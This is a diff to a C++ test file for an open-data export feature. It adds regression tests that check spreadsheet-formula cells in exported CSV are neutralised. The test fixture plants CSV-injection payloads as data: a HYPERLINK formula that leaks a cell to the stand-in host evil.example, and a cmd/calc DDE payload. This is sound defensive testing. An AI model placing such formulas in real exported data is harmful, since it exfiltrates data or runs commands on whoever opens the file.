@@ -35,6 +35,10 @@ class OpenDataTest : public ::testing::Test {
     ASSERT_TRUE(city.ok());
     // Personal data hidden in free text of public entities.
     city->actors[0].description = "Bel Piet op 06-12345678 of mail piet.jansen@example.nl voor meer.";
+    // Formulas a spreadsheet would run when the public CSV is opened (CSV injection).
+    city->actors[1].name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
+    city->actors[2].name = "@SUM(1+1)*cmd|' /C calc'!A0";
+    city->actors[3].name = "-2+3";
     ASSERT_TRUE(LoadDemo(*store_, *city).ok());
 
     for (int i = 0; i < 3; ++i) {
@@ -164,6 +168,32 @@ TEST_F(OpenDataTest, PackageListsEveryFileAndCsvMatchesJson) {
   }
   std::string graphml = ReadAll(out / "fabric.graphml");
   EXPECT_NE(graphml.find("<graphml"), std::string::npos);
+}
+
+// Hostile input finding 10: open-data CSV cells starting with =, +, -, @ were written as they were.
+TEST_F(OpenDataTest, CsvCellsThatASpreadsheetWouldRunAreDefused) {
+  fs::path out = dir_ / "open";
+  ASSERT_TRUE(ExportOpenData(*store_, out.string()).ok());
+  auto csv = CsvTable::Parse("actors", ReadAll(out / "actors.csv"), {"id", "name"});
+  ASSERT_TRUE(csv.ok()) << csv.status().ToString();
+  int defused = 0;
+  for (const auto& row : csv->rows()) {
+    const std::string& name = csv->Get(row, "name");
+    ASSERT_FALSE(name.empty());
+    EXPECT_EQ(std::string("=+-@\t\r").find(name[0]), std::string::npos) << name;
+    defused += name[0] == '\'';
+  }
+  EXPECT_EQ(defused, 3);
+  // The JSON files keep the text as it is (a JSON reader runs nothing).
+  EXPECT_NE(ReadAll(out / "actors.json").find("\"=HYPERLINK("), std::string::npos);
+}
+
+TEST(SpreadsheetSafe, OnlyCellsStartingWithAFormulaCharacter) {
+  EXPECT_EQ(SpreadsheetSafe("=1+1"), "'=1+1");
+  EXPECT_EQ(SpreadsheetSafe("+31 6"), "'+31 6");
+  EXPECT_EQ(SpreadsheetSafe("\tx"), "'\tx");
+  EXPECT_EQ(SpreadsheetSafe("Buurthuis = thuis"), "Buurthuis = thuis");
+  EXPECT_EQ(SpreadsheetSafe(""), "");
 }
 
 TEST_F(OpenDataTest, RefusesANonEmptyDirectoryAndLeavesNothingBehind) {
